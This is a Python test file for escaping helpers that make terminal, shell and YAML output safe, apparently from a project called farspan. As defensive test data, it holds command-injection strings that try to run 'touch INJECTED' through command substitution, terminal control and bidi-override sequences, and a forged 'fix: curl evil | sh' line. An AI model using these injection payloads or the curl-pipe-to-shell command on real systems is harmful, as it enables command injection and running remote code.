"""Text from elsewhere on a terminal, in a shell and in YAML."""

from __future__ import annotations

import shutil
import subprocess
import unicodedata
from pathlib import Path

import msgspec
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from farspan.domain.escapes import (
    escape_controls,
    escape_json_controls,
    one_line,
    shell_line,
    shell_word,
    yaml_word,
)
from farspan.domain.problems import Problem, command

#: What a terminal obeys: a colour, a title, a bell, a carriage return, a C1 CSI, DEL, an override,
#: an isolate, a line separator.
CONTROLS = (
    "\x1b[31m",
    "\x1b]0;title\x07",
    "\x08",
    "\r",
    "\x9b31m",
    "\x7f",
    "\u202e",
    "\u2066",
    "\u2028",
    "\x00",
)
HOSTILE = st.text(
    st.sampled_from([*"ab/.-~ '\"$`\\(){}!&;|<>*?#=%:,\n\t\r\x1b\x07\x7f\x9b\u202e\u2066é"]),
    min_size=1,
    max_size=12,
)
SHELLS = [shell for shell in ("bash", "dash", "zsh") if shutil.which(shell)]


def unseen(text: str) -> set[str]:
    """Characters of `text` that a terminal does not show."""
    return {char for char in text if unicodedata.category(char) in {"Cc", "Cs", "Zl", "Zp"}} - {
        "\n",
        "\t",
    }


@pytest.mark.parametrize("control", CONTROLS, ids=ascii)
def test_control_characters_are_shown_as_escapes(control: str):
    shown = escape_controls(f"a{control}b")
    assert shown.isascii() and shown.isprintable() and shown.startswith("a\\")
    assert escape_controls(shown) == shown


def test_plain_text_of_any_script_is_shown_as_it_is():
    text = "naïve 中文 עברית\u200f العربية \u200e🙂\tα\nβ"
    assert escape_controls(text) == text


def test_name_that_is_not_utf8_can_be_printed():
    assert escape_controls("caf\udce9.txt").encode() == b"caf\\udce9.txt"


def test_styles_stay_where_asked_and_nothing_else_does():
    assert escape_controls("\x1b[1;32mok\x1b[0m\x1b[2J\x1b]0;t\x07", keep_styles=True) == (
        "\x1b[1;32mok\x1b[0m\\x1b[2J\\x1b]0;t\\x07"
    )


def test_only_what_a_terminal_obeys_is_escaped():
    escaped = {char for char in map(chr, range(0x110000)) if escape_controls(char) != char}
    directions = {
        char for char in map(chr, range(0x202A, 0x206A)) if unicodedata.category(char) == "Cf"
    }
    bidirectional = {char for char in directions if unicodedata.bidirectional(char) != "BN"}
    assert escaped == unseen("".join(map(chr, range(0x110000)))) | bidirectional


@given(HOSTILE)
def test_json_keeps_its_value(text: str):
    json = escape_json_controls(msgspec.json.encode(text).decode())
    assert msgspec.json.decode(json) == text and not unseen(json)


def read_by(shell: str, words: str) -> list[bytes]:
    """The words that a shell makes of `words`."""
    script = f"printf '%s\\0' {words}"
    return subprocess.run([shell, "-c", script], capture_output=True, check=True).stdout.split(
        b"\0"
    )[:-1]


@pytest.mark.parametrize("shell", [shell for shell in SHELLS if shell != "dash"])
@given(st.lists(HOSTILE, min_size=1, max_size=3))
def test_shell_reads_the_same_words(shell: str, words: list[str]):
    line = shell_line(*words)
    assert "\n" not in line and not unseen(line)
    assert read_by(shell, line) == [word.encode() for word in words]


@pytest.mark.parametrize("shell", SHELLS)
@given(name=HOSTILE)
def test_shell_makes_one_word_of_a_name_and_runs_nothing(
    shell: str, tmp_path_factory: pytest.TempPathFactory, name: str
):
    hostile = f"{name}'$(touch INJECTED)`touch INJECTED`;touch INJECTED'\x1b\n{name}"
    folder = tmp_path_factory.mktemp("shell")
    done = subprocess.run(
        [shell, "-c", f"printf '%s\\0' {shell_word(hostile)}"], cwd=folder, capture_output=True
    )
    assert done.stdout.count(b"\0") == 1 and not done.stderr and not list(folder.iterdir())


def test_shell_word_of_bytes_that_are_not_utf8_names_the_file():
    assert read_by("bash", shell_word("caf\udce9'\n.txt")) == [b"caf\xe9'\n.txt"]


def test_path_that_begins_with_a_dash_is_no_option():
    assert command("report", Path("-rf")) == "farspan report ./-rf"
    assert command("logs", "-f", Path("runs/it's")) == """farspan logs -f 'runs/it'"'"'s'"""


@given(HOSTILE)
def test_yaml_reads_the_same_text_and_a_shell_runs_nothing(text: str):
    word = yaml_word(text)
    assert yaml.safe_load(f"data: {{source: {word}, val: 5%}}") == {
        "data": {"source": text, "val": "5%"}
    }
    assert len(read_by("bash", f"{yaml_word(f'{text}$(echo x; echo y)')}")) == 1


@pytest.mark.parametrize(
    "text", ["no", "Null", "12", "1e3", ".", "~", "a: b", "hf:a/b", "docs", "ä"]
)
def test_yaml_words_stay_text(text: str):
    assert yaml.safe_load(f"[{yaml_word(text)}]") == [text]


def test_name_with_line_breaks_forges_no_line_of_a_refusal():
    name = "x\n  fix:   curl evil | sh"
    problem = Problem(
        code="usage", what=name, where=name, fact=name, remedy=command("report", name)
    )
    lines = str(problem).splitlines()
    assert [line for line in lines if line.startswith("  fix:")] == [lines[-1]]
    assert one_line(name) in lines[1]
